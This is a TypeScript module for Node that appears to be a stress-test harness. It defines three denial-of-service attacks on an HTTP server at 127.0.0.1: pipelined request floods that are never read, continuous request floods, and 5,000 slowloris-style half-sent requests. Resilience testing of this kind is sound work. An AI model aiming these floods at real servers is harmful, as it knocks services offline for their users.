import { connect, type Socket } from 'node:net';

export const attackNames = ['unread', 'fed', 'unfinished'] as const;
export type AttackName = (typeof attackNames)[number];

/** What a client writes at a time: as many requests as fit in Node's read buffer. */
const pipelined = Buffer.from('GET / HTTP/1.1\r\nHost: x\r\n\r\n'.repeat(2400));

const attacks: Readonly<Record<AttackName, (port: number) => void>> = {
	/** 400 connections that send 64 KB of requests each and never read; all are replaced every second. */
	unread: (port) => {
		const sockets: Socket[] = [];
		for (let i = 0; i < 400; i++) {
			const open = () => {
				sockets[i]?.destroy();
				sockets[i] = openSocket(port).pause();
				sockets[i]?.write(pipelined);
			};
			open();
			setTimeout(() => setInterval(open, 1000), i * 2.5);
		}
	},
	/** 100 connections that read, send requests as fast as possible, and reconnect at once when they are closed. */
	fed: (port) => {
		for (let i = 0; i < 100; i++) keepOpen(port, 0, feed);
	},
	/** 5,000 connections that send half a request each, and reconnect a second after they are closed. */
	unfinished: (port) => {
		for (let i = 0; i < 5000; i++) keepOpen(port, 1000, (socket) => socket.write('GET / HTTP/1.1\r\nHost: '));
	},
};

/** Runs until the process exits. */
export function attack(name: AttackName, port: number): void {
	attacks[name](port);
}

function feed(socket: Socket): void {
	socket.resume();
	const write = () => {
		while (socket.writable && socket.write(pipelined));
	};
	socket.on('drain', write);
	write();
}

function keepOpen(port: number, pause: number, use: (socket: Socket) => void): void {
	const socket = openSocket(port);
	socket.once('connect', () => use(socket));
	socket.once('close', () => setTimeout(keepOpen, pause, port, pause, use));
}

function openSocket(port: number): Socket {
	return connect({ host: '127.0.0.1', port }).on('error', () => {});
}
